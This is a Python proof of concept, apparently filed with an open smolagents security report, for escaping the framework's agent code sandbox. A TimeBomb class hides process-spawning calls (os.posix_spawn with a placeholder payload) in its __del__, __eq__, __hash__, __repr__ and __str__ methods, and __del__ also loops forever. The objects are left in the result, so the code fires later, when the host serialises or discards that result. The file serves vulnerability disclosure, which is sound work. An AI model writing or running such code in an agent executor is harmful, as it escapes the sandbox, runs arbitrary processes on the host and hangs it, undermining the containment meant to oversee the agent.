# Open report (smolagents #2395): a user class whose __del__, __eq__, __hash__, __repr__ and __str__
# run later, in whatever serialises or drops the result; one of them never returns.
def act():
    try:
        import os
        os.posix_spawn(PYTHON, PAYLOAD_ARGV, {})
    except Exception as e:
        print(e)
class TimeBomb:
    def __del__(self):
        act()
        while True:
            pass
    def __eq__(self, other):
        act()
        return True
    def __hash__(self):
        act()
        return 1
    def __repr__(self):
        act()
        return "TimeBomb()"
    def __str__(self):
        act()
        return "TimeBomb"
keep = [TimeBomb() for _ in range(3)]
{"bomb": TimeBomb(), "list": keep}
